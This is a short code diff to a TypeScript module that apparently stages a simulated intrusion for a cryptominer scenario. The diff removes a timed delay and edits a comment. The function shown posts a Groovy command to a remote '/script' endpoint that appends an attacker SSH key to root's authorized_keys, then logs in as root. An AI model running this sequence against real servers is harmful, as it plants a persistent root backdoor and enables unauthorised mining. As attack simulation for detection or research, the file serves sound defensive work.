@@ -1,4 +1,4 @@
-// The login that brings the miner is in order by itself: its key was put there by what an access log shows, days before and from elsewhere.
+// The login that brings the miner is in order by itself: its key was put there by what an access log shows, from elsewhere.
 import type { Dress } from '../../dress.ts'
 import { dropper } from '../../dropper.ts'
 import { noJournal } from '../../long-ago.ts'
@@ -30,6 +30,5 @@ export async function plant(stage: Stage): Promise<void> {
   const leave = `mkdir -p -m 700 /root/.ssh; echo ${stage.publicKey('his')} >>/root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys`
   const script = `println ["sh","-c","${leave}"].execute().text`
   await stage.http('203.0.113.212', '/script', `script=${encodeURIComponent(script)}`)
-  await stage.later(5 * 24, ordinary)
   await stage.ssh('192.0.2.77', 'root', { key: 'his' }, line)
 }
